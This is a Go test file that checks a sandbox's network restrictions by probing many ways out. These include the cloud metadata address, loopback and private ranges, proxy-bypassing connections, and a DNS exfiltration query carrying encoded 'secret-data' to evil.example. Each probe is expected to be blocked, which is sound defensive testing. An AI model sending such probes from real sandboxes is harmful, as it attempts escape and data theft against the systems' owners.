//go:build linux

package egresstest

import (
	"fmt"
	"net"
	"slices"
	"strings"
	"testing"

	"github.com/sandjet/sandjet/schemas"
)

// TestProxied tries every way out of a sandbox that can reach only a few hosts, by a proxy named in its variables. The world is that of
// [Furnish], the network that of [Restricted].
func (s Sandboxes) TestProxied(t *testing.T) {
	t.Helper()
	_, port, _ := net.SplitHostPort(Greeter(t, "0.0.0.0:0"))
	n := Restricted()
	at := s.place(t, n)
	cases := []struct{ args, want string }{
		{"get http://web.example/", "HTTP/1.1 200 hello to web.example"},
		{"get https://web.example/", "200 hello to web.example"},
		{"get https://WEB.example./", "200 hello to"},
		{"get http://web.example/ evil.example", "403"}, // as the URL of the request then says
		{"tunnel git.example:22 x", "greeting"},
		{"tunnel 93.184.217.7:9000 x", "greeting"},
		// Hosts that are not listed.
		{"get http://evil.example/", "403 sandjet: network: host evil.example is not allowed by this sandbox's rules"},
		{"get https://evil.example/", "no:"},
		{"get http://notweb.example/", "403"},
		{"get http://web.example.evil.example/", "403"},
		{"tunnel web.example:22 x", "403"},
		{"tunnel git.example:443 x", "403"},
		// Addresses.
		{"get http://93.184.216.34/", "403"},
		{"get http://169.254.169.254/latest/meta-data", "403"},
		{"tunnel 93.184.216.99:443 x", "403"},
		{"tunnel 93.184.217.200:9000 x", "403"},
		{"tunnel 10.0.0.1:22 x", "403"},
		{"tunnel 10.96.0.1:443 x", "403"},
		{"tunnel 127.0.0.1:" + port + " x", "403"},
		{"tunnel 0.0.0.0:" + port + " x", "403"},
		{"tunnel [::1]:" + port + " x", "403"},
		{"tunnel [::ffff:93.184.216.34]:80 x", "403"},
		{"tunnel [fd00:ec2::254]:80 x", "403"},
		{"tunnel 2130706433:" + port + " x", "40"},
		// Names that lead to closed places.
		{"get http://inner.example/", "403 sandjet: network: host inner.example leads to a place that is not open"},
		{"tunnel inner.example:443 x", "403"},
		{"tunnel meta.example:80 GET", "400"}, // no request by plain HTTP
		{"get http://meta.example/", "403"},
		// The wrong name on the right connection.
		{"get https://web.example/ evil.example", "no:"},
		{"get http://web.example/elsewhere", "403"},
		{"tunnel web.example:443 SSH-2.0-x", "no:"},
		// Programs that do without the proxy.
		{"bare http://web.example/", "no:"},
		{"bare https://web.example/", "no:"},
		{"bare http://93.184.216.34/", "no:"},
		{"say tcp 93.184.216.99:443 x", "no:"},
		{"say tcp 169.254.169.254:80 x", "no:"},
		{"say tcp [2606:2800:220:1:248:1893:25c8:1946]:80 x", "no:"},
		{"say udp 93.184.216.34:443 x", "no:"},
		{"ask web.example 8.8.8.8:53", "no:"},
		{"ask c2VjcmV0LWRhdGE.evil.example 8.8.8.8:53", "no:"},
		{"text c2VjcmV0LWRhdGE.evil.example", "no:"},
	}
	all := make([]string, len(cases))
	for i, a := range cases {
		all[i] = a.args
	}
	for i, said := range s.probeAll(t, at, n, all) {
		if a := cases[i]; !strings.Contains(said, a.want) || a.want == "no:" && strings.Contains(said, "hello") {
			t.Errorf("%s: %q, want %q", a.args, said, a.want)
		}
	}
	for _, to := range s.World.Dialled() {
		if !slices.Contains([]string{"93.184.216.34:80", "93.184.216.34:443", "93.184.216.36:22", "93.184.217.7:9000"}, to) {
			t.Errorf("%s was connected to", to)
		}
	}
	for _, name := range s.World.Lookups() {
		if !slices.Contains([]string{"web.example.", "git.example.", "inner.example.", "meta.example."}, name) {
			t.Errorf("%s was looked up outside", name)
		}
	}
}

// probeAll is ProbeIn for many attempts in one run, eight at a time, because each may wait for an answer that never arrives.
func (s Sandboxes) probeAll(t *testing.T, at schemas.Ref, n schemas.Network, all []string) []string {
	t.Helper()
	const together, mark = 8, "==== "
	var script strings.Builder
	for i, args := range all {
		quoted := "'" + strings.ReplaceAll(args, " ", "' '") + "'"
		fmt.Fprintf(&script, "{ %s=1 ./netprobe %s >said.%d 2>&1; } &\n", ProbeVariable, quoted, i)
		if i%together == together-1 {
			script.WriteString("wait\n")
		}
	}
	fmt.Fprintf(&script, "wait; for i in $(seq 0 %d); do echo '%s'; cat said.$i; done", len(all)-1, mark)
	cmd := s.With(n, script.String())
	cmd.Sandbox, cmd.Timeout, cmd.OutputLimit = at, schemas.MaxTimeout, schemas.MaxOutputLimit
	res, err := s.Provider.Run(t.Context(), cmd)
	said := strings.Split(string(res.Stdout), mark+"\n")
	if err != nil || len(said) != len(all)+1 {
		t.Fatalf("%d answers to %d attempts, %v: %.500s", len(said)-1, len(all), err, res.Stderr)
	}
	return said[1:]
}
